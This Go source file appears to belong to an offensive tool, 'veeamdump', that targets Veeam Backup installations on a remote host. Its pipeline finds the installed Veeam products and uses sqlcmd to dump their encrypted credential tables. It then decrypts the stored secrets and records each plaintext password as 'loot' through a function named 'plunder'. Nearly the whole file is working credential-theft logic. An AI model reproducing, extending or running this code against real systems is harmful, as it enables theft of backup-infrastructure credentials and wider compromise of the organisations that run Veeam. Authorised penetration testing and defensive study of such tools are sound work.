package application

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"slices"
	"time"

	"github.com/google/uuid"
	"github.com/hashicorp/go-multierror"

	"github.com/ericfisherdev/veeamdump/internal/domain/model"
	"github.com/ericfisherdev/veeamdump/internal/domain/port/driven"
	"github.com/ericfisherdev/veeamdump/internal/domain/table"
)

const (
	veeamPort       = 6160
	defaultRealm    = "Veeam Credential"
	csvMIME         = "text/csv"
	labelEncrypted  = "Encrypted Database Dump"
	labelDecryptFmt = "Decrypted %s Database Dump"
)

// PipelineOptions tunes a Pipeline.
type PipelineOptions struct {
	// Host labels credentials recovered in this run. Empty means the target's
	// computer name.
	Host string
	// Batch decrypts all host-protection rows in one remote call.
	Batch bool
	// Products restricts a run to these products. Empty means all detected.
	Products []model.Product
}

// Pipeline exports Veeam credential tables and decrypts them.
type Pipeline struct {
	exec       driven.RemoteExecutor
	classifier *Classifier
	resolver   *Resolver
	exporter   driven.DatabaseExporter
	processor  *RowProcessor
	artifacts  driven.ArtifactStore
	creds      driven.CredentialStore
	opts       PipelineOptions
	logger     *slog.Logger
	host       string

	newRunID func() string
	now      func() time.Time
}

// NewPipeline creates a Pipeline with all required dependencies.
func NewPipeline(
	exec driven.RemoteExecutor,
	classifier *Classifier,
	resolver *Resolver,
	exporter driven.DatabaseExporter,
	processor *RowProcessor,
	artifacts driven.ArtifactStore,
	creds driven.CredentialStore,
	opts PipelineOptions,
	logger *slog.Logger,
) *Pipeline {
	return &Pipeline{
		exec:       exec,
		classifier: classifier,
		resolver:   resolver,
		exporter:   exporter,
		processor:  processor,
		artifacts:  artifacts,
		creds:      creds,
		opts:       opts,
		logger:     logger,
		host:       opts.Host,
		newRunID:   uuid.NewString,
		now:        time.Now,
	}
}

// Run detects products, checks for the SQL client and runs action for every
// selected product. Products are independent: one product's failure is
// collected and the next product still runs. A failure of the executor
// channel stops the run. The summary is returned even on error.
func (p *Pipeline) Run(ctx context.Context, action model.Action) (*model.RunSummary, error) {
	p.resolveHost(ctx)
	summary := p.newSummary(action)
	defer func() { summary.Finished = p.now() }()

	switch action {
	case model.ActionDump, model.ActionExport:
	default:
		return summary, model.Fail(model.KindBadConfig, "unknown action %q", action)
	}

	targets, err := p.targets(ctx)
	if err != nil {
		return summary, err
	}

	found, err := p.exporter.Detect(ctx)
	if err != nil {
		return summary, fmt.Errorf("detect SQL client: %w", err)
	}
	if !found {
		return summary, model.Fail(model.KindBadConfig, "unable to identify sqlcmd SQL client on target host")
	}

	var errs *multierror.Error
	for _, t := range targets {
		rc := p.runContext(summary.RunID, t)
		pr := p.runProduct(ctx, rc, action)
		summary.Products = append(summary.Products, pr)
		if pr.Err == nil {
			continue
		}

		errs = multierror.Append(errs, fmt.Errorf("%s: %w", t.Product.DisplayName(), pr.Err))
		var re *model.RunError
		if !errors.As(pr.Err, &re) {
			p.logger.Error("executor failure, stopping run", "product", t.Product.DisplayName(), "error", pr.Err)
			break
		}
		p.logger.Error("product failed", "product", t.Product.DisplayName(), "error", pr.Err)
	}
	return summary, errs.ErrorOrNil()
}

// Target returns the detected installation of product.
func (p *Pipeline) Target(ctx context.Context, product model.Product) (model.Target, error) {
	targets, err := p.classifier.Detect(ctx)
	if err != nil {
		return model.Target{}, err
	}
	for _, t := range targets {
		if t.Product == product {
			return t, nil
		}
	}
	return model.Target{}, model.Fail(model.KindNoTarget, "%s not detected", product.FullName())
}

// DecryptFile decrypts an export supplied by the operator instead of one
// produced in this run.
func (p *Pipeline) DecryptFile(ctx context.Context, target model.Target, path string) (*model.RunSummary, error) {
	p.resolveHost(ctx)
	summary := p.newSummary(model.ActionDump)
	defer func() { summary.Finished = p.now() }()

	rc := p.runContext(summary.RunID, target)
	pr := model.ProductRun{Target: target}

	ok, err := p.exec.FileExists(ctx, path)
	if err != nil {
		pr.Err = fmt.Errorf("check %s: %w", path, err)
		summary.Products = append(summary.Products, pr)
		return summary, pr.Err
	}
	if !ok {
		pr.Err = model.Fail(model.KindBadConfig, "invalid %s CSV input file %s", target.Product.DisplayName(), path)
		summary.Products = append(summary.Products, pr)
		return summary, pr.Err
	}
	data, err := p.exec.ReadFile(ctx, path)
	if err != nil {
		pr.Err = model.FailWrap(model.KindNoTarget, err, "CSV file %s not found", path)
		summary.Products = append(summary.Products, pr)
		return summary, pr.Err
	}

	var ref string
	pr.Outcome, ref, pr.Err = p.decrypt(ctx, rc, data, path)
	if ref != "" {
		pr.Refs = append(pr.Refs, ref)
	}
	summary.Products = append(summary.Products, pr)
	return summary, pr.Err
}

// Loot returns what a previous run recorded. Reading sealed credentials
// without the sealing key is a bad-config error.
func (p *Pipeline) Loot(ctx context.Context, runID string) (*model.RunLoot, error) {
	if runID == "" {
		return nil, model.Fail(model.KindBadConfig, "run ID is required")
	}
	creds, err := p.creds.ListByRun(ctx, runID)
	if errors.Is(err, driven.ErrEncryptionKeyNotSet) {
		return nil, model.FailWrap(model.KindBadConfig, err, "credentials for run %s are sealed", runID)
	}
	if err != nil {
		return nil, fmt.Errorf("list credentials: %w", err)
	}
	artifacts, err := p.artifacts.ListByRun(ctx, runID)
	if err != nil {
		return nil, fmt.Errorf("list artifacts: %w", err)
	}
	if len(creds) == 0 && len(artifacts) == 0 {
		return nil, model.Fail(model.KindNotFound, "no loot recorded for run %s", runID)
	}
	return &model.RunLoot{RunID: runID, Credentials: creds, Artifacts: artifacts}, nil
}

func (p *Pipeline) runProduct(ctx context.Context, rc model.RunContext, action model.Action) model.ProductRun {
	pr := model.ProductRun{Target: rc.Target}

	conn, err := p.resolver.Resolve(ctx, rc)
	if err != nil {
		pr.Err = err
		return pr
	}
	rc.Conn = conn
	pr.Conn = conn

	ref, err := p.Export(ctx, rc)
	if err != nil {
		pr.Err = err
		return pr
	}
	pr.Refs = append(pr.Refs, ref)
	if action == model.ActionExport {
		return pr
	}

	outcome, decRef, err := p.Decrypt(ctx, rc, ref)
	pr.Outcome = outcome
	if decRef != "" {
		pr.Refs = append(pr.Refs, decRef)
	}
	pr.Err = err
	return pr
}

// Export dumps the product's credential table and saves it as an artifact.
// It returns the artifact reference.
func (p *Pipeline) Export(ctx context.Context, rc model.RunContext) (string, error) {
	product := rc.Target.Product
	name := product.DisplayName()
	log := p.logger.With("product", name)

	log.Info("exporting database", "database", rc.Conn.Database)
	text, err := p.exporter.Export(ctx, product, rc.Conn)
	if err != nil {
		return "", err
	}

	tbl, err := table.Parse(text, table.ExportHeader)
	if err != nil {
		return "", model.FailWrap(model.KindUnknown, err, "error parsing %s SQL dataset", name)
	}
	if !tbl.HasIdentities(table.ColID) {
		return "", model.Fail(model.KindUnknown, "%s SQL dataset contains no ID column values", name)
	}
	log.Info("rows exported", "rows", tbl.Len(), "unique_ids", tbl.UniqueCount(table.ColID))

	ref, err := p.artifacts.Save(ctx, model.Artifact{
		RunID:    rc.RunID,
		LootType: fmt.Sprintf("veeam_%s_enc", product),
		MIMEType: csvMIME,
		FileName: dumpName(rc),
		Label:    labelEncrypted,
		Data:     []byte(table.StripNUL(tbl.Serialize())),
	})
	if err != nil {
		return "", fmt.Errorf("save %s export: %w", name, err)
	}
	log.Info("encrypted database dump saved", "ref", ref)
	return ref, nil
}

// Decrypt reloads an export artifact and decrypts it. It returns the outcome
// and the reference of the saved result artifact.
func (p *Pipeline) Decrypt(ctx context.Context, rc model.RunContext, ref string) (*model.Outcome, string, error) {
	data, err := p.artifacts.Load(ctx, ref)
	if err != nil {
		return nil, "", model.FailWrap(model.KindNoTarget, err, "CSV artifact %s not found", ref)
	}
	return p.decrypt(ctx, rc, data, ref)
}

func (p *Pipeline) decrypt(ctx context.Context, rc model.RunContext, data []byte, source string) (*model.Outcome, string, error) {
	product := rc.Target.Product
	name := product.DisplayName()
	log := p.logger.With("product", name)

	tbl, err := table.Parse(string(data), nil)
	if err != nil {
		return nil, "", model.FailWrap(model.KindNoTarget, err, "error importing CSV %s", source)
	}
	if !tbl.HasIdentities(table.ColID) {
		return nil, "", model.Fail(model.KindNoTarget, "CSV %s contains no ID column values", source)
	}
	log.Info("rows loaded", "rows", tbl.Len(), "unique_ids", tbl.UniqueCount(table.ColID))

	outcome, err := p.processor.Process(ctx, rc, tbl)
	if err != nil {
		return outcome, "", err
	}
	log.Info("rows written", "rows", outcome.ResultRows, "blank_withheld", outcome.Blank)
	log.Info("unique ID records recovered", "count", outcome.ResultSecrets)

	if err := p.plunder(ctx, rc, outcome.Result); err != nil {
		return outcome, "", err
	}

	ref, err := p.artifacts.Save(ctx, model.Artifact{
		RunID:    rc.RunID,
		LootType: fmt.Sprintf("veeam_%s_dec", product),
		MIMEType: csvMIME,
		FileName: dumpName(rc),
		Label:    fmt.Sprintf(labelDecryptFmt, name),
		Data:     []byte(table.StripNUL(outcome.Result.Serialize())),
	})
	if err != nil {
		return outcome, "", fmt.Errorf("save %s result: %w", name, err)
	}
	log.Info("decrypted database dump saved", "ref", ref)
	return outcome, ref, nil
}

// plunder records every recovered row as a Veeam service credential.
func (p *Pipeline) plunder(ctx context.Context, rc model.RunContext, result *table.Table) error {
	for i := 0; i < result.Len(); i++ {
		row := result.Row(i)
		secret, ok := row.Get(table.ColPlaintext)
		if !ok {
			continue
		}
		realm, ok := row.Get(table.ColDescription)
		if !ok {
			realm = defaultRealm
		}

		cred := model.Credential{
			RunID:    rc.RunID,
			Username: row.Value(table.ColUsername),
			Secret:   secret,
			Service: model.ServiceData{
				Address:  rc.Host,
				Port:     veeamPort,
				Name:     "veeam",
				Protocol: "tcp",
				Realm:    realm,
			},
			Origin: string(rc.Target.Product),
		}
		if err := p.creds.Store(ctx, cred); err != nil {
			return fmt.Errorf("store credential %s: %w", row.Value(table.ColID), err)
		}
		p.logger.Info("recovered credential", "realm", realm, "user", cred.Username)
	}
	return nil
}

func (p *Pipeline) targets(ctx context.Context) ([]model.Target, error) {
	targets, err := p.classifier.Detect(ctx)
	if err != nil {
		return nil, err
	}
	if len(p.opts.Products) == 0 {
		return targets, nil
	}

	var selected []model.Target
	for _, t := range targets {
		if slices.Contains(p.opts.Products, t.Product) {
			selected = append(selected, t)
		}
	}
	if len(selected) == 0 {
		return nil, model.Fail(model.KindNoTarget, "none of the selected products were detected")
	}
	return selected, nil
}

// resolveHost fills in the host label from the target's computer name once.
// A failed lookup leaves the label empty; detection reports channel failures.
func (p *Pipeline) resolveHost(ctx context.Context) {
	if p.host != "" {
		return
	}
	name, err := p.classifier.Hostname(ctx)
	if err != nil {
		p.logger.Warn("failed to read target hostname", "error", err)
		return
	}
	p.host = name
	p.logger.Info("target host", "hostname", name)
}

func (p *Pipeline) newSummary(action model.Action) *model.RunSummary {
	return &model.RunSummary{
		RunID:   p.newRunID(),
		Host:    p.host,
		Action:  action,
		Started: p.now(),
	}
}

func (p *Pipeline) runContext(runID string, t model.Target) model.RunContext {
	return model.RunContext{RunID: runID, Host: p.host, Target: t, Batch: p.opts.Batch}
}

// dumpName is the artifact file name: the database name when known.
func dumpName(rc model.RunContext) string {
	if rc.Conn.Database != "" {
		return rc.Conn.Database + ".csv"
	}
	return "Veeam" + rc.Target.Product.DisplayName() + ".csv"
}
